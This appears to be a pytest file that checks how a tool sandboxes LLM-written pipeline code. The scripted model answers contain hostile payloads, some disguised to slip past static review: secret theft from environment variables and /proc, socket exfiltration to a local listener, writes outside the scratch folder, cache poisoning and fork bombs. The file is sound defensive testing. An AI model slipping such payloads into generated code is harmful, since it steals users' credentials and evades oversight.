"""Hostile generated code: the real CLI, the local replay server, one payload per escape, and the key never leaks.

The messy pipeline opens ``policies.csv`` and ``claims.csv`` by relative path
from the working directory. The scripted model answers three times: a rewrite
with payloads written plainly (caught by the static check), one with the same
payloads disguised so that no static check sees them, each caught and the
error swallowed, so that the script still trains the right model (caught by
the sandbox: the payloads fail, and the audit hook fails the validation), and
finally a correct rewrite that trains at the top level (accepted; the tool adds
the ``__main__`` block).
"""
import importlib.util
import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from lester_inspect.rewrite import LLMError, SandboxUnavailable, rewrite_pipeline
from lester_inspect.rewrite.answers import assemble
from lester_inspect.rewrite.cache import ResponseCache
from lester_inspect.rewrite.client import ChatClient
from lester_inspect.rewrite.sandbox import Isolation, Limits, Sandbox, run_captured
from rewrite_fixtures.fake_openai import FakeOpenAIServer, answer

REPO = Path(__file__).resolve().parents[1]
FIXTURE = Path(__file__).parent / "rewrite_fixtures" / "policies"
SECRETS = {"OPENAI_API_KEY": "sk-secret-canary", "DB_PASS": "db-secret-canary", "GITHUB_PAT": "ghp-secret-canary",
           "DATABASE_URL": "postgres://app:pg-secret-canary@db/prod",
           "SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/slack-secret-canary",
           "AWS_SECRET_ACCESS_KEY": "aws-secret-canary"}
CANARY = b"secret-canary"


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and every byte sent to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections, self.received = 0, b""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            with connection:
                connection.settimeout(2)
                try:
                    while chunk := connection.recv(65536):
                        self.received += chunk
                except OSError:
                    pass

    def close(self):
        self.server.close()


def correct_code():
    return (FIXTURE / "correct_rewrite.md").read_text().split("```python\n")[1].split("```")[0]


def with_payload(payload):
    """The correct rewrite with ``payload`` run at the top, before the data is prepared."""
    head, tail = correct_code().split("\n\ndef prepare_data", 1)
    return f"```python\n{head}\n\n{textwrap.dedent(payload).strip()}\n\n\ndef prepare_data{tail}```\n"


PLAIN = """
import os
import subprocess
import socket
import ctypes
import urllib.request
import smtplib
import http.client
from os import environ

STOLEN = {name: os.environ.get(name) for name in ["DB_PASS", "GITHUB_PAT", "OPENAI_API_KEY"]}
TOKEN = os.getenv("DATABASE_URL")
eval("print(STOLEN)")
exec(compile("x = 1", "x", "exec"))
__import__("ftplib")
os.system("true")
"""

# The same escapes, hidden from a reading of the code; every attempt's error is swallowed.
DISGUISED = """
import sys
import time

_os = sys.modules["os"]
_load = getattr(__builtins__, "__imp" + "ort__")
_loot = []


def _try(action):
    try:
        _loot.append(repr(action()))
    except Exception as error:
        _loot.append(repr(error))


_try(lambda: open("/proc/%d/environ" % _os.getppid()).read())
_try(lambda: [vars(_os)["envi" + "ron"][name] for name in ["DB_PASS", "GITHUB_PAT", "DATABASE_URL",
                                                             "SLACK_WEBHOOK_URL", "OPENAI_API_KEY"]])
_try(lambda: _load("socket").create_connection(("127.0.0.1", {port}), timeout=3).sendall(repr(_loot).encode()))
_try(lambda: open("{home}/PWNED_HOME.txt", "w").write(repr(_loot)))
_try(lambda: open("{output_dir}/PWNED_OUTPUT.txt", "w").write(repr(_loot)))
_try(lambda: open("{cache}/poisoned.json", "w").write(repr(_loot)))
_try(lambda: [vars(_os)["fork"]() for _ in range(20)])
"""


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    """One `lester-inspect rewrite` run against the three scripted answers, with secrets in its environment."""
    root = tmp_path_factory.mktemp("attack")
    work, scripts, output_dir, home, cache = (root / name for name in ("work", "scripts", "out", "home", "cache"))
    for folder in (work, scripts, output_dir, home):
        folder.mkdir()
    spec = importlib.util.spec_from_file_location("policies_generate_data", FIXTURE / "generate_data.py")
    generator = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(generator)
    generator.write(work, 300, seed=1)
    messy = scripts / "messy_pipeline.py"
    messy.write_text((FIXTURE / "messy_pipeline.py").read_text())
    listener = Listener()
    disguised = DISGUISED.format(port=listener.port, home=home, output_dir=output_dir, cache=cache)
    replies = [answer(with_payload(PLAIN)), answer(with_payload(disguised)),
               answer((FIXTURE / "correct_rewrite.md").read_text())]
    environment = {"PATH": os.environ["PATH"], "PYTHONPATH": str(REPO), "HOME": str(home), **SECRETS}
    started = time.monotonic()
    try:
        with FakeOpenAIServer(replies) as server:
            process = subprocess.run(
                [sys.executable, "-m", "lester_inspect.cli", "rewrite", str(messy), "-o",
                 str(output_dir / "pipeline.py"), "--base-url", server.base_url, "--cache", str(cache),
                 "--max-repairs", "2", "--timeout", "120"],
                capture_output=True, text=True, env=environment, cwd=work, timeout=400)
    finally:
        listener.close()
    return {"root": root, "work": work, "out": output_dir / "pipeline.py", "home": home, "cache": cache,
            "scripts": scripts, "process": process, "requests": server.requests, "listener": listener,
            "seconds": time.monotonic() - started}


def test_messy_script_with_relative_paths_rewrites_and_the_top_level_training_is_assembled(attack):
    process = attack["process"]
    assert process.returncode == 0, process.stderr
    assert process.stdout.startswith(f"{attack['out']}: attempt 3 of 3 passed: ")
    assert "rows x 5 features agree" in process.stdout
    written = attack["out"].read_text()
    assert written == assemble(correct_code(), "messy_pipeline.py", "gpt-4o")
    assert '\n\nif __name__ == "__main__":\n    data = prepare_data("policies.csv", "claims.csv")\n' in written
    assert "_loot" not in written and "PWNED" not in written and "import os" not in written


def line_of(code, snippet):
    return next(i for i, text in enumerate(code.splitlines(), start=1) if snippet in text)


def test_plain_payloads_are_rejected_by_the_static_check_with_line_and_construct(attack):
    evidence = attack["requests"][1]["body"]["messages"][-1]["content"]
    assert "failed validation at the static check" in evidence
    candidate = with_payload(PLAIN).split("```python\n")[1]
    for construct, what in [
            ("import subprocess", "starts processes"), ("import socket", "opens network connections"),
            ("import ctypes", "calls C code directly"), ("import urllib.request", "uses the network"),
            ("import smtplib", "uses the network"), ("import http.client", "uses the network"),
            ("from os import environ", "reads the environment"), ("os.environ", "reads the environment"),
            ("os.getenv", "reads the environment"), ('eval("print(STOLEN)")', "evaluates code from a string"),
            ('exec(compile("x = 1", "x", "exec"))', "executes code from a string"),
            ('__import__("ftplib")', "imports modules by name"), ("os.system", "runs a shell command")]:
        line = line_of(candidate, construct)
        assert (f"- line {line}: `{construct}` {what}; generated code must only read its input files and train "
                f"the model") in evidence, construct


def test_disguised_payloads_are_refused_at_run_time_and_fail_validation(attack):
    messages = attack["requests"][2]["body"]["messages"]
    evidence = messages[-1]["content"]
    assert "failed validation at the sandbox check" in evidence
    home, output_dir, cache = attack["home"], attack["out"].parent, attack["cache"]
    candidate = with_payload(DISGUISED).split("```python\n")[1]
    line = {snippet: line_of(candidate, snippet)
            for snippet in ["/proc/", "GITHUB_PAT", "socket", "PWNED_HOME", "PWNED_OUTPUT", "poisoned", "fork"]}
    for refusal in [
            f"line {line['/proc/']}: reads the environment of a process (/proc/1/environ)",
            f"line {line['GITHUB_PAT']}: reads the environment (os.environ['DB_PASS'])",
            f"line {line['socket']}: uses the network (looks up host '127.0.0.1')",
            f"line {line['PWNED_HOME']}: writes outside its scratch folder ({home}/PWNED_HOME.txt)",
            f"line {line['PWNED_OUTPUT']}: writes outside its scratch folder ({output_dir}/PWNED_OUTPUT.txt)",
            f"line {line['poisoned']}: writes outside its scratch folder ({cache}/poisoned.json)",
            f"line {line['fork']}: forks a process"]:
        assert f"- {refusal}\n" in evidence, evidence
    assert len(messages) == 6


def test_no_payload_reaches_anything_outside_the_sandbox(attack):
    root = attack["root"]
    assert attack["listener"].connections == 0 and attack["listener"].received == b""
    assert sorted(p.name for p in root.rglob("PWNED*")) == [] and not (attack["cache"] / "poisoned.json").exists()
    assert sorted(p.name for p in attack["scripts"].iterdir()) == ["messy_pipeline.py"]
    # The cache holds the three answers, each still matching its request.
    cache = ResponseCache(str(attack["cache"]))
    entries = sorted(attack["cache"].rglob("*.json"))
    assert len(entries) == 3 and all(cache.get(p.stem) is not None for p in entries) and cache.rejected == []
    for path in root.rglob("*"):
        if path.is_file():
            assert CANARY not in path.read_bytes(), path
    process = attack["process"]
    assert "secret-canary" not in process.stdout + process.stderr


def test_the_sandbox_itself_contains_a_hostile_original(tmp_path, monkeypatch):
    """Without the audit hook (it watches candidates only), the namespaces and limits alone hold."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    listener = Listener()
    marker = f"lester-sandbox-test-{os.getpid()}-{time.monotonic_ns()}"
    for folder in ("home", "work"):
        (tmp_path / folder).mkdir()
    script = textwrap.dedent(f"""
        import json, os, socket, time
        seen = {{}}
        def attempt(name, action):
            try:
                seen[name] = repr(action())[:300]
            except Exception as error:
                seen[name] = "refused: " + type(error).__name__
        attempt("parent", lambda: open(f"/proc/{{os.getppid()}}/environ").read())
        attempt("first", lambda: open("/proc/1/environ").read())
        attempt("variables", lambda: dict(os.environ))
        attempt("socket", lambda: socket.create_connection(("127.0.0.1", {listener.port}), timeout=3))
        attempt("home", lambda: open("{tmp_path}/home/PWNED_HOME.txt", "w").write("x"))
        attempt("next", lambda: open("{tmp_path}/PWNED_NEXT.txt", "w").write("x"))
        attempt("passwd", lambda: open("/etc/shadow").read())
        attempt("big file", lambda: open("big.bin", "wb").write(b"x" * (3 << 20)))
        children = []
        for _ in range(80):
            try:
                child = os.fork()
            except OSError:
                break
            if child == 0:
                time.sleep(30)
                os._exit(0)
            children.append(child)
        seen["children"] = len(children)
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)
        print(json.dumps(seen), flush=True)
        if os.fork() == 0:
            os.setsid()
            os.execvp("sh", ["sh", "-c", "sleep 1000000; true", "{marker}"])
        time.sleep(1000000)
    """)
    started = time.monotonic()
    try:
        # The script's work takes well under a second; the limit ends its endless sleep, and the test waits for it.
        outcome = run_captured(script, str(tmp_path / "pipeline.py"), [], Limits(seconds=10, processes=40, output_mb=2),
                               Sandbox((), str(tmp_path / "work")))
    finally:
        listener.close()
    assert outcome.error == "the script did not finish within the time limit of 10 s"
    # Waiting for the setsid() grandchild would never end; the bound leaves room for a loaded machine.
    assert time.monotonic() - started < 120
    seen = json.loads(outcome.stdout)
    assert CANARY not in outcome.stdout.encode()
    assert seen["socket"] == "refused: ConnectionRefusedError" and listener.connections == 0
    # Paths under /tmp exist only in the sandbox's own /tmp: the home folder is not there, and a file
    # "next to" the working directory lands in that private /tmp, never on the host.
    assert seen["home"] == "refused: FileNotFoundError"
    assert seen["passwd"] == "refused: FileNotFoundError"
    assert seen["big file"] == "refused: OSError"  # 3 MB over the 2 MB limit of a written file
    assert 0 < seen["children"] < 40
    assert not list(tmp_path.rglob("PWNED*"))
    # The setsid() grandchild died with the sandbox's pid namespace.
    time.sleep(0.5)
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                assert marker.encode() not in Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                pass


def test_without_strong_isolation_rewrite_refuses_up_front(tmp_path, monkeypatch):
    missing = Isolation(False, "bubblewrap (bwrap) is not installed (Debian: apt-get install bubblewrap)", "RLIMIT_NPROC")
    monkeypatch.setattr("lester_inspect.rewrite.repair_loop.isolation", lambda: missing)
    with FakeOpenAIServer([answer("never asked")]) as server:
        with pytest.raises(SandboxUnavailable) as raised:
            rewrite_pipeline(FIXTURE / "messy_pipeline.py", output=tmp_path / "out.py", base_url=server.base_url,
                             api_key="k", cache_dir=tmp_path / "cache")
    assert server.requests == []
    assert str(raised.value) == (
        "no strong isolation for the generated code on this machine: bubblewrap (bwrap) is not installed (Debian: "
        "apt-get install bubblewrap). Nothing was run. Pass --unsafe-no-sandbox (unsafe_no_sandbox=True) to run it "
        "with only an allow-listed environment, resource limits and a scratch working directory.")


def test_unsafe_run_sees_inputs_through_a_scratch_working_directory(tmp_path, monkeypatch):
    monkeypatch.setenv("DB_PASS", SECRETS["DB_PASS"])
    (tmp_path / "policies.csv").write_text("a\n1\n")
    script = "import os\nopen('out.txt', 'w').write('x')\nprint(open('policies.csv').read().split()[1], " \
             "'DB_PASS' in os.environ, os.getcwd() != " + repr(str(tmp_path)) + ")\n"
    outcome = run_captured(script, str(tmp_path / "p.py"), [], Limits(seconds=60),
                           Sandbox((str(tmp_path / "policies.csv"),), str(tmp_path), unsafe=True))
    assert outcome.stdout == "1 False True" and not (tmp_path / "out.txt").exists()


@pytest.mark.parametrize("url, reason", [("http://127.0.0.1:{port}/v1", "connection refused (no server listens there)"),
                                         ("http://nonexistent-host.invalid/v1", "unknown host")])
def test_an_unreachable_endpoint_fails_at_once_in_one_line(tmp_path, url, reason):
    closed = socket.create_server(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    url = url.format(port=port)
    waits, messages = [], []
    client = ChatClient("m", base_url=url, api_key="k", cache=ResponseCache(str(tmp_path)), sleep=waits.append,
                        progress=messages.append)
    with pytest.raises(LLMError) as raised:
        client.complete([{"role": "user", "content": "hi"}])
    # At once: no retry, no wait before one.
    assert waits == [] and messages == []
    message = str(raised.value)
    assert message.startswith(f"{url}: {reason}") and message.endswith("; check --base-url (or OPENAI_BASE_URL)")
    assert "\n" not in message
